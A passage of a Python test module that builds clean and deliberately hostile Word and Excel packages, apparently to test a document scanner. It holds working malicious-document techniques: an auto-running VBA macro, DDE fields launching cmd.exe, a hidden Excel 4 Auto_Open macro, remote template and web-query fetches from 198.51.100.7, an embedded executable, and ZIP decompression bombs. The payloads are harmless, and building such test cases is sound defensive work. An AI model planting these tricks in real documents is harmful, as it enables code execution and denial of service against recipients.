"""Office Open XML test files built in code: DOCX/XLSX packages, clean and hostile.

Each case is (builder, file name as the sender gives it, expected reason code or
None when the file must be accepted; "name.mismatch" when it is accepted under
its real type with a note). Packages are minimal but valid OPC packages; the
hostile ones differ from a clean one in exactly the way their name says. ZIP
containers that ``zipfile`` refuses to write are assembled byte by byte, and OLE
storages (VBA projects, OLE objects, legacy Word files) by a small CFB writer.
"""

from __future__ import annotations

import io
import os
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from typing import NamedTuple

Case = tuple[Callable[[], bytes], str, str | None]

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MSR = "http://schemas.microsoft.com/office/2006/relationships/"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
CT = "application/vnd.openxmlformats-officedocument."
DOCX_MAIN = CT + "wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOTX_MAIN = CT + "wordprocessingml.template.main+xml"
XLSX_MAIN = CT + "spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PPTX_MAIN = CT + "presentationml.presentation.main+xml"
VBA_TYPE = "application/vnd.ms-office.vbaProject"
WEBEXT_PANES = "application/vnd.ms-office.webextensiontaskpanes+xml"

XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


class Rel(NamedTuple):
    type: str
    target: str
    external: bool = False


# --- OLE compound files --------------------------------------------------------


def cfb(streams: Mapping[str, bytes]) -> bytes:
    """A compound file (OLE/CFB, version 3) holding ``streams``; "VBA/dir" is a stream in a storage.

    Streams under 4096 bytes live in the mini stream, as Office writes them.
    """
    sector, mini, cutoff = 512, 64, 4096
    end, free, fat_mark = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    root: dict[str, object] = {"name": "Root Entry", "type": 5, "children": {}}
    for path, data in streams.items():
        node = root
        *folders, leaf = path.split("/")
        for folder in folders:
            kids = node["children"]
            assert isinstance(kids, dict)
            node = kids.setdefault(folder, {"name": folder, "type": 1, "children": {}})
        kids = node["children"]
        assert isinstance(kids, dict)
        kids[leaf] = {"name": leaf, "type": 2, "data": data, "children": {}}

    nodes: list[dict[str, object]] = []

    def number(node: dict[str, object]) -> None:
        node["id"] = len(nodes)
        nodes.append(node)
        kids = node["children"]
        assert isinstance(kids, dict)
        for kid in kids.values():
            number(kid)

    number(root)
    sectors: list[bytes] = []
    fat: list[int] = []
    minifat: list[int] = []
    ministream = bytearray()

    def allocate(data: bytes) -> int:
        count = max(1, -(-len(data) // sector))
        first = len(sectors)
        for i in range(count):
            sectors.append(data[i * sector : (i + 1) * sector].ljust(sector, b"\0"))
            fat.append(first + i + 1 if i + 1 < count else end)
        return first

    for node in nodes:
        data = node.get("data", b"")
        assert isinstance(data, bytes)
        if node["type"] != 2 or not data:
            node["start"], node["size"] = end, 0
        elif len(data) >= cutoff:
            node["start"], node["size"] = allocate(data), len(data)
        else:
            count = -(-len(data) // mini)
            first = len(minifat)
            minifat.extend(first + i + 1 if i + 1 < count else end for i in range(count))
            ministream += data.ljust(count * mini, b"\0")
            node["start"], node["size"] = first, len(data)
    if ministream:
        root["start"], root["size"] = allocate(bytes(ministream)), len(ministream)
    minifat_start = allocate(struct.pack(f"<{len(minifat)}I", *minifat)) if minifat else end
    minifat_count = -(-len(minifat) * 4 // sector)

    def entry(node: dict[str, object] | None) -> bytes:
        if node is None:
            return struct.pack(
                "<64sHBBIII16sIQQIQ", b"", 0, 0, 1, free, free, free, b"", 0, 0, 0, 0, 0
            )
        name = str(node["name"]).encode("utf-16-le") + b"\0\0"
        kids = sorted(
            node["children"].values(),  # type: ignore[attr-defined]
            key=lambda k: (len(k["name"]), k["name"].upper()),
        )
        return struct.pack(
            "<64sHBBIII16sIQQIQ",
            name,
            len(name),
            node["type"],
            1,
            node.get("left", free),
            node.get("right", free),
            _tree(kids),
            b"",
            0,
            0,
            0,
            node["start"],
            node["size"],
        )

    def _tree(kids: list[dict[str, object]]) -> int:
        """Link siblings as a balanced binary tree; return its root's id."""
        if not kids:
            return free
        mid = len(kids) // 2
        kids[mid]["left"] = _tree(kids[:mid])
        kids[mid]["right"] = _tree(kids[mid + 1 :])
        return int(kids[mid]["id"])  # type: ignore[call-overload]

    directory = b"".join(entry(n) for n in nodes)
    directory += entry(None) * (-len(nodes) % 4)
    dir_start = allocate(directory)
    fat_count = 1
    while len(sectors) + fat_count > fat_count * (sector // 4):
        fat_count += 1
    fat_ids = list(range(len(sectors), len(sectors) + fat_count))
    fat += [fat_mark] * fat_count
    fat += [free] * (fat_count * (sector // 4) - len(fat))
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII109I",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"",
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"",
        0,
        fat_count,
        dir_start,
        0,
        cutoff,
        minifat_start,
        minifat_count,
        end,
        0,
        *(fat_ids + [free] * (109 - fat_count)),
    )
    return header + b"".join(sectors) + fat_bytes


def vba_project() -> bytes:
    """What Word stores as vbaProject.bin: a VBA storage with its module streams."""
    return cfb(
        {
            "PROJECT": b'ID="{5F3C4B2A-0000-0000-0000-000000000000}"\r\n'
            b'Document=ThisDocument/&H00000000\r\nName="Project"\r\n',
            "PROJECTwm": b"ThisDocument\0T\0h\0i\0s\0D\0o\0c\0u\0m\0e\0n\0t\0\0\0\0\0",
            "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
            "VBA/dir": b"\x01" + os.urandom(400),
            "VBA/ThisDocument": b'Attribute VB_Name = "ThisDocument"\r\n'
            b'Sub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n',
        }
    )


def ole_package_object() -> bytes:
    """An embedded OLE Package object carrying a program, as phishing documents do."""
    payload = b"MZ" + b"\x90" * 300
    native = b"\x02\x00" + b"rechnung.exe\0" + b"C:\\rechnung.exe\0" + b"\0\0\3\0"
    native += struct.pack("<I", 16) + b"C:\\rechnung.exe\0" + struct.pack("<I", len(payload))
    native += payload
    return cfb(
        {
            "\x01Ole10Native": struct.pack("<I", len(native)) + native,
            "\x01CompObj": b"\x01\x00\xfe\xff\x03\x0a\x00\x00" + b"\xff" * 4 + b"\0" * 80,
        }
    )


def legacy_doc() -> bytes:
    """A Word 97-2003 file: the WordDocument stream starts with the FIB magic."""
    word = b"\xec\xa5\xc1\x00" + os.urandom(5000)
    return cfb(
        {
            "WordDocument": word,
            "1Table": os.urandom(4200),
            "\x05SummaryInformation": b"\xfe\xff\0\0" + b"\0" * 100,
        }
    )


def encrypted_docx() -> bytes:
    """A password-protected DOCX: Office wraps the encrypted package in an OLE storage."""
    info = b"\x04\x00\x04\x00\x40\x00\x00\x00" + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption '
        b'xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" '
        b'blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining='
        b'"ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
        b"</encryption>"
    )
    return cfb(
        {
            "EncryptionInfo": info,
            "EncryptedPackage": struct.pack("<Q", 9000) + os.urandom(9008),
            "\x06DataSpaces/Version": b"<\0\0\0"
            + "Microsoft.Container.DataSpaces".encode("utf-16-le"),
        }
    )


# --- ZIP containers --------------------------------------------------------------


def zip_parts(parts: Mapping[str, bytes], *, level: int = 6) -> bytes:
    """A ZIP written by zipfile, entries in the given order, deflated like Office does."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 5, 6, 7, 8, 10))
            info.compress_type = zipfile.ZIP_STORED if name.endswith("/") else zipfile.ZIP_DEFLATED
            zf.writestr(info, data, compresslevel=level)
    return out.getvalue()


class RawEntry(NamedTuple):
    name: bytes
    data: bytes  # as stored: compressed unless method is 0
    method: int
    crc: int
    size: int  # what the headers declare
    flags: int = 0


def raw_entry(name: str, content: bytes, **changes: int) -> RawEntry:
    """A deflated entry whose header fields can be falsified through ``changes``."""
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    data = packer.compress(content) + packer.flush()
    entry = RawEntry(name.encode(), data, 8, zlib.crc32(content), len(content))
    return entry._replace(**changes)


def local_header(e: RawEntry, name: bytes | None = None) -> bytes:
    name = e.name if name is None else name
    fields = (20, e.flags, e.method, 0, 0x58A6, e.crc, len(e.data), e.size, len(name), 0)
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields) + name


def central_header(e: RawEntry, offset: int) -> bytes:
    fields = (20, 20, e.flags, e.method, 0, 0x58A6, e.crc, len(e.data), e.size, len(e.name))
    return struct.pack("<4s6H3L5H2L", b"PK\x01\x02", *fields, 0, 0, 0, 0, 0, offset) + e.name


def end_record(count: int, cd_size: int, cd_offset: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, cd_size, cd_offset, 0)


def raw_zip(entries: Sequence[RawEntry], gaps: Mapping[int, bytes] | None = None) -> bytes:
    """A ZIP assembled byte by byte; ``gaps`` puts unindexed bytes after entry i."""
    out = bytearray()
    offsets = []
    for i, e in enumerate(entries):
        offsets.append(len(out))
        out += local_header(e) + e.data + (gaps or {}).get(i, b"")
    directory = b"".join(central_header(e, o) for e, o in zip(entries, offsets, strict=True))
    return bytes(out + directory + end_record(len(entries), len(directory), len(out)))


def as_raw(parts: Mapping[str, bytes]) -> list[RawEntry]:
    return [raw_entry(name, data) for name, data in parts.items()]


# --- OPC packages ------------------------------------------------------------------


def content_types(defaults: Mapping[str, str], overrides: Mapping[str, str]) -> bytes:
    items = [f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in defaults.items()]
    items += [f'<Override PartName="/{p}" ContentType="{t}"/>' for p, t in overrides.items()]
    return (
        XML_DECL
        + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + "".join(items)
        + "</Types>"
    ).encode()


def relationships(rels: Sequence[Rel]) -> bytes:
    items = [
        f'<Relationship Id="rId{i}" Type="{r.type}" Target="{r.target}"'
        + (' TargetMode="External"/>' if r.external else "/>")
        for i, r in enumerate(rels, start=1)
    ]
    return (
        XML_DECL
        + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(items)
        + "</Relationships>"
    ).encode()


def _doc_props(app: str) -> dict[str, bytes]:
    core = (
        XML_DECL + '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
        'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms='
        '"http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        "<dc:creator>Meisterbetrieb Muster</dc:creator><dcterms:created xsi:type="
        '"dcterms:W3CDTF">2024-05-06T07:08:10Z</dcterms:created></cp:coreProperties>'
    )
    props = (
        XML_DECL + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'extended-properties"><Application>{app}</Application></Properties>'
    )
    return {"docProps/core.xml": core.encode(), "docProps/app.xml": props.encode()}


_PACKAGE_DEFAULTS = {
    "rels": "application/vnd.openxmlformats-package.relationships+xml",
    "xml": "application/xml",
}
_PROPS_OVERRIDES = {
    "docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
    "docProps/app.xml": CT + "extended-properties+xml",
}
_PROPS_RELS = [
    Rel(
        "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
        "docProps/core.xml",
    ),
    Rel(R + "extended-properties", "docProps/app.xml"),
]

PARAGRAPH = "<w:p><w:r><w:t>Antrag auf Eintragung in die Handwerksrolle</w:t></w:r></w:p>"


def document_xml(body: str = PARAGRAPH) -> bytes:
    return (
        XML_DECL + f'<w:document xmlns:w="{W}" xmlns:r="{R[:-1]}" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml">'
        f'<w:body>{body}<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body>'
        "</w:document>"
    ).encode()


def docx_parts(
    *,
    main_type: str = DOCX_MAIN,
    body: str = PARAGRAPH,
    doc_rels: Sequence[Rel] = (),
    parts: Mapping[str, bytes] | None = None,
    overrides: Mapping[str, str] | None = None,
    defaults: Mapping[str, str] | None = None,
    root_rels: Sequence[Rel] = (),
    settings_rels: Sequence[Rel] = (),
    settings_body: str = "",
) -> dict[str, bytes]:
    """The parts of a DOCX as Word lays it out; every argument adds to the clean base."""
    wp = CT + "wordprocessingml."
    cts = {
        "word/document.xml": main_type,
        "word/styles.xml": wp + "styles+xml",
        "word/settings.xml": wp + "settings+xml",
        **_PROPS_OVERRIDES,
        **(overrides or {}),
    }
    base_rels = [Rel(R + "styles", "styles.xml"), Rel(R + "settings", "settings.xml")]
    settings = (
        XML_DECL + f'<w:settings xmlns:w="{W}" xmlns:r="{R[:-1]}">{settings_body}'
        '<w:defaultTabStop w:val="708"/></w:settings>'
    )
    styles = (
        XML_DECL + f'<w:styles xmlns:w="{W}"><w:style w:type="paragraph" w:default="1" '
        'w:styleId="Standard"><w:name w:val="Normal"/></w:style></w:styles>'
    )
    result = {
        "[Content_Types].xml": content_types(
            {**_PACKAGE_DEFAULTS, "png": "image/png", "jpeg": "image/jpeg", **(defaults or {})},
            cts,
        ),
        "_rels/.rels": relationships(
            [Rel(R + "officeDocument", "word/document.xml"), *_PROPS_RELS, *root_rels]
        ),
        **_doc_props("Microsoft Office Word"),
        "word/document.xml": document_xml(body),
        "word/_rels/document.xml.rels": relationships([*base_rels, *doc_rels]),
        "word/styles.xml": styles.encode(),
        "word/settings.xml": settings.encode(),
    }
    if settings_rels:
        result["word/_rels/settings.xml.rels"] = relationships(settings_rels)
    result.update(parts or {})
    return result


def docx(**kwargs: object) -> bytes:
    """A DOCX built from :func:`docx_parts` with the same arguments."""
    return zip_parts(docx_parts(**kwargs))  # type: ignore[arg-type]


def sheet_xml(rows: str = "") -> bytes:
    rows = rows or (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Gesellenprüfung</t></is></c>'
        '<c r="B1"><v>2024</v></c></row><row r="2"><c r="B2"><f>B1+1</f><v>2025</v></c></row>'
    )
    return (
        XML_DECL + f'<worksheet xmlns="{S}" xmlns:r="{R[:-1]}"><sheetData>{rows}</sheetData>'
        "</worksheet>"
    ).encode()


def xlsx_parts(
    *,
    main_type: str = XLSX_MAIN,
    sheets: Sequence[bytes] = (),
    workbook_rels: Sequence[Rel] = (),
    workbook_extra: str = "",
    extra_sheets: str = "",
    parts: Mapping[str, bytes] | None = None,
    overrides: Mapping[str, str] | None = None,
    defaults: Mapping[str, str] | None = None,
) -> dict[str, bytes]:
    """The parts of an XLSX laid out as openpyxl writes them."""
    sheets = list(sheets) or [sheet_xml()]
    sml = CT + "spreadsheetml."
    cts = {
        "xl/workbook.xml": main_type,
        "xl/styles.xml": sml + "styles+xml",
        "xl/theme/theme1.xml": CT + "theme+xml",
        **{f"xl/worksheets/sheet{i}.xml": sml + "worksheet+xml" for i in range(1, len(sheets) + 1)},
        **_PROPS_OVERRIDES,
        **(overrides or {}),
    }
    sheet_rels = [
        Rel(R + "worksheet", f"worksheets/sheet{i}.xml") for i in range(1, len(sheets) + 1)
    ]
    sheet_list = "".join(
        f'<sheet name="Tabelle{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, len(sheets) + 1)
    )
    workbook = (
        XML_DECL + f'<workbook xmlns="{S}" xmlns:r="{R[:-1]}"><workbookPr/><bookViews>'
        f'<workbookView activeTab="0"/></bookViews><sheets>{sheet_list}{extra_sheets}</sheets>'
        f'{workbook_extra}<calcPr calcId="124519" fullCalcOnLoad="1"/></workbook>'
    )
    styles = (
        XML_DECL + f'<styleSheet xmlns="{S}"><fonts count="1"><font><sz val="11"/></font></fonts>'
        '<cellXfs count="1"><xf numFmtId="0" fontId="0"/></cellXfs></styleSheet>'
    )
    theme = (
        XML_DECL + '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'name="Office Theme"><a:themeElements/></a:theme>'
    )
    result = {
        "docProps/app.xml": _doc_props("Microsoft Excel")["docProps/app.xml"],
        "docProps/core.xml": _doc_props("")["docProps/core.xml"],
        "xl/theme/theme1.xml": theme.encode(),
        **{f"xl/worksheets/sheet{i}.xml": s for i, s in enumerate(sheets, start=1)},
        "xl/styles.xml": styles.encode(),
        "xl/workbook.xml": workbook.encode(),
        "xl/_rels/workbook.xml.rels": relationships(
            [
                *sheet_rels,
                Rel(R + "styles", "styles.xml"),
                Rel(R + "theme", "theme/theme1.xml"),
                *workbook_rels,
            ]
        ),
        "_rels/.rels": relationships([Rel(R + "officeDocument", "xl/workbook.xml"), *_PROPS_RELS]),
        "[Content_Types].xml": content_types({**_PACKAGE_DEFAULTS, **(defaults or {})}, cts),
    }
    result.update(parts or {})
    return result


def xlsx(**kwargs: object) -> bytes:
    """An XLSX built from :func:`xlsx_parts` with the same arguments."""
    return zip_parts(xlsx_parts(**kwargs))  # type: ignore[arg-type]


# --- clean packages ----------------------------------------------------------------


def docx_with_hyperlink(target: str = "https://www.hwk-musterstadt.de/formulare") -> bytes:
    body = (
        '<w:p><w:r><w:t xml:space="preserve">Formulare: </w:t></w:r><w:hyperlink r:id="rId3">'
        "<w:r><w:t>Handwerkskammer</w:t></w:r></w:hyperlink></w:p>"
    )
    return docx(body=body, doc_rels=[Rel(R + "hyperlink", target, external=True)])


def docx_with_chart(workbook: bytes | None = None) -> bytes:
    """A chart whose data lives in an embedded workbook, as Word's Insert > Chart makes it."""
    chart = (
        XML_DECL + '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"'
        f' xmlns:r="{R[:-1]}"><c:chart><c:plotArea/></c:chart><c:externalData r:id="rId1">'
        '<c:autoUpdate val="0"/></c:externalData></c:chartSpace>'
    )
    return docx(
        body=PARAGRAPH + '<w:p><w:r><w:drawing><c:chart xmlns:c="http://schemas.openxmlformats'
        '.org/drawingml/2006/chart" r:id="rId3"/></w:drawing></w:r></w:p>',
        doc_rels=[Rel(R + "chart", "charts/chart1.xml")],
        overrides={"word/charts/chart1.xml": CT + "drawingml.chart+xml"},
        defaults={"xlsx": CT + "spreadsheetml.sheet"},
        parts={
            "word/charts/chart1.xml": chart.encode(),
            "word/charts/_rels/chart1.xml.rels": relationships(
                [Rel(R + "package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")]
            ),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook or xlsx(),
        },
    )


def docx_with_picture() -> bytes:
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + os.urandom(3000) + b"\xff\xd9"
    return docx(
        doc_rels=[Rel(R + "image", "media/image1.jpeg")], parts={"word/media/image1.jpeg": jpeg}
    )


def docx_with_harmless_fields() -> bytes:
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        ' PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1'
        '</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://example.org/dde/include&quot; ">'
        "<w:r><w:t>Link</w:t></w:r></w:fldSimple></w:p>"
        '<w:p><w:fldSimple w:instr=" DATE \\@ &quot;dd.MM.yyyy&quot; "/></w:p>'
    )
    return docx(body=body)


def docx_streamed() -> bytes:
    """Written to a pipe: sizes and CRCs follow the data in data descriptors."""

    class Pipe(io.RawIOBase):
        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, b: object) -> int:
            chunk = bytes(b)  # type: ignore[call-overload]
            self.data += chunk
            return len(chunk)

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in docx_parts().items():
            zf.writestr(name, data)
    return bytes(pipe.data)


def docx_with_folders() -> bytes:
    """Some tools (and the oletools sample) store folder entries too."""
    parts = docx_parts()
    return zip_parts({"docProps/": b"", "word/": b"", "_rels/": b"", **parts})


# --- hostile packages --------------------------------------------------------------


def docm_renamed() -> bytes:
    return docx(
        main_type=DOCM_MAIN,
        doc_rels=[Rel(MSR + "vbaProject", "vbaProject.bin")],
        defaults={"bin": VBA_TYPE},
        parts={"word/vbaProject.bin": vba_project()},
    )


def docx_with_vba_part() -> bytes:
    return docx(
        doc_rels=[Rel(MSR + "vbaProject", "vbaProject.bin")],
        defaults={"bin": VBA_TYPE},
        parts={"word/vbaProject.bin": vba_project()},
    )


def vba_disguised_as_image() -> bytes:
    return docx(
        doc_rels=[Rel(R + "image", "media/image7.png")],
        parts={"word/media/image7.png": vba_project()},
    )


def remote_template() -> bytes:
    return docx(
        settings_body='<w:attachedTemplate r:id="rId1"/>',
        settings_rels=[
            Rel(R + "attachedTemplate", "http://198.51.100.7/vorlagen/brief.dotm", external=True)
        ],
    )


def field_document(body: str) -> Callable[[], bytes]:
    return lambda: docx(body=body)


DDEAUTO_SPLIT = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
    '<w:r><w:instrText>EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Rechnung</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
DDE_SIMPLE = '<w:p><w:fldSimple w:instr=" dde  cmd &quot;/c calc&quot; "/></w:p>'
INCLUDEPICTURE = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>  INCLUDEPICTURE '
    '"http://198.51.100.7/pixel.png" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
    "</w:r></w:p>"
)
NESTED_FIELD_NAME = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 '
    '68 69 65 85 84 79</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r>'
    '<w:instrText> calc</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


DDE_SPLIT_BY_IGNORED_ELEMENT = (
    '<w:p xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:x="urn:example:ignored" mc:Ignorable="x"><w:r><w:fldChar w:fldCharType="begin"/>'
    '</w:r><w:r><w:instrText>DD<x:pad/>E cmd "/c calc"</w:instrText></w:r><w:r>'
    '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def xlsx_with_dde_link() -> bytes:
    link = (
        XML_DECL + f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe">'
        '<ddeItems><ddeItem name="_xlbgnm.A1" advise="1"/></ddeItems></ddeLink></externalLink>'
    )
    return xlsx(
        workbook_rels=[Rel(R + "externalLink", "externalLinks/externalLink1.xml")],
        workbook_extra='<externalReferences><externalReference r:id="rId4"/></externalReferences>',
        overrides={"xl/externalLinks/externalLink1.xml": CT + "spreadsheetml.externalLink+xml"},
        parts={"xl/externalLinks/externalLink1.xml": link.encode()},
    )


def xlsx_with_macro_sheet() -> bytes:
    macro = (
        XML_DECL + '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
        'main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
        '<row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>'
        '<row r="2"><c r="A2"><f>HALT()</f></c></row>'
        "</sheetData></xm:macrosheet>"
    )
    return xlsx(
        workbook_rels=[Rel(MSR + "xlMacrosheet", "macrosheets/sheet1.xml")],
        extra_sheets='<sheet name="Makro1" sheetId="2" state="veryHidden" r:id="rId4"/>',
        workbook_extra='<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">'
        "Makro1!$A$1</definedName></definedNames>",
        overrides={"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
        parts={"xl/macrosheets/sheet1.xml": macro.encode()},
    )


def xlsx_with_web_query() -> bytes:
    connections = (
        XML_DECL + f'<connections xmlns="{S}"><connection id="1" name="Kurse" type="4" '
        'refreshedVersion="6" refreshOnLoad="1"><webPr sourceData="1" '
        'url="http://198.51.100.7/kurse.iqy"/></connection></connections>'
    )
    return xlsx(
        workbook_rels=[Rel(R + "connections", "connections.xml")],
        overrides={"xl/connections.xml": CT + "spreadsheetml.connections+xml"},
        parts={"xl/connections.xml": connections.encode()},
    )


def docx_with_ole_object(content: bytes | None = None) -> bytes:
    body = (
        '<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:75pt;height:48pt"/>'
        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" '
        'ObjectID="_1234567890" r:id="rId3"/></w:object></w:r></w:p>'
    )
    return docx(
        body=body,
        doc_rels=[Rel(R + "oleObject", "embeddings/oleObject1.bin")],
        defaults={"bin": CT + "oleObject"},
        parts={"word/embeddings/oleObject1.bin": content or ole_package_object()},
    )


PE_PROGRAM = (
    b"MZ\x90\x00" + b"\0" * 56 + struct.pack("<I", 128) + b"\0" * 64 + b"PE\0\0" + b"\0" * 300
)


def docx_with_exe_embedding() -> bytes:
    return docx(
        doc_rels=[Rel(R + "package", "embeddings/Rechnung.bin")],
        defaults={"bin": "application/octet-stream"},
        parts={"word/embeddings/Rechnung.bin": PE_PROGRAM},
    )


def docx_with_external_ole_link() -> bytes:
    target = "https://198.51.100.7/harmless.doc"
    return docx(doc_rels=[Rel(R + "oleObject", target, external=True)])


def docx_with_activex() -> bytes:
    ocx = (
        XML_DECL + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        f'xmlns:r="{R[:-1]}" ax:classid="{{8BD21D40-EC42-11CE-9E0D-00AA006002F3}}" '
        'ax:persistence="persistStorage" r:id="rId1"/>'
    )
    return docx(
        body='<w:p><w:r><w:object><w:control r:id="rId3" w:name="TextBox1"/></w:object></w:r>'
        "</w:p>",
        doc_rels=[Rel(R + "control", "activeX/activeX1.xml")],
        overrides={"word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
        defaults={"bin": "application/vnd.ms-office.activeX"},
        parts={
            "word/activeX/activeX1.xml": ocx.encode(),
            "word/activeX/_rels/activeX1.xml.rels": relationships(
                [Rel(MSR + "activeXControlBinary", "activeX1.bin")]
            ),
            "word/activeX/activeX1.bin": b"\x00\x02\x00\x00" + os.urandom(200),
        },
    )


def docx_with_alt_chunk() -> bytes:
    mht = (
        b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
        b"<html><body><script>alert(1)</script></body></html>"
    )
    return docx(
        body='<w:altChunk r:id="rId3"/>',
        doc_rels=[Rel(R + "aFChunk", "afchunk.mht")],
        defaults={"mht": "message/rfc822"},
        parts={"word/afchunk.mht": mht},
    )


def docx_with_web_extension() -> bytes:
    panes = (
        XML_DECL + '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/'
        'taskpanes/2010/11"/>'
    )
    return docx(
        root_rels=[
            Rel(
                "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
                "word/webextensions/taskpanes.xml",
            )
        ],
        overrides={"word/webextensions/taskpanes.xml": WEBEXT_PANES},
        parts={"word/webextensions/taskpanes.xml": panes.encode()},
    )


def nested_docx(depth: int) -> bytes:
    """A DOCX embedding a DOCX embedding ... ``depth`` levels deep."""
    inner = docx()
    for _ in range(depth):
        inner = docx(
            doc_rels=[Rel(R + "package", "embeddings/Dokument.docx")],
            defaults={"docx": CT + "wordprocessingml.document"},
            parts={"word/embeddings/Dokument.docx": inner},
        )
    return inner


def plain_zip() -> bytes:
    return zip_parts({"rechnung.pdf": b"%PDF-1.4 not really", "fotos/baustelle.jpg": b"\xff\xd8"})


def _deflate_segment(data: bytes) -> bytes:
    """Deflate blocks that end byte-aligned and refer to nothing before them: repeatable."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)


def inflating_document(*, honest: bool) -> bytes:
    """document.xml inflating to 320 MB of blanks from ~300 kB; built in milliseconds."""
    prefix = document_xml()[:-30]
    stream = _deflate_segment(prefix) + _deflate_segment(b" " * (8 << 20)) * 40
    stream += zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    size = len(prefix) + 40 * (8 << 20)
    entries = as_raw(docx_parts())
    entries = [
        RawEntry(e.name, stream, 8, 0x12345678, size if honest else 4096)
        if e.name == b"word/document.xml"
        else e
        for e in entries
    ]
    return raw_zip(entries)


def overlapping_entries(count: int = 500, block: int = 10 << 20) -> bytes:
    """``count`` central-directory entries that all point at the same stored block."""
    data = bytes(block)
    first = RawEntry(b"word/media/image0.png", data, 0, zlib.crc32(data), block)
    directory = b"".join(
        central_header(first._replace(name=f"word/media/image{i}.png".encode()), 0)
        for i in range(count)
    )
    body = local_header(first) + data
    return body + directory + end_record(count, len(directory), len(body))


def duplicate_content_types(other_spelling: bool = False) -> bytes:
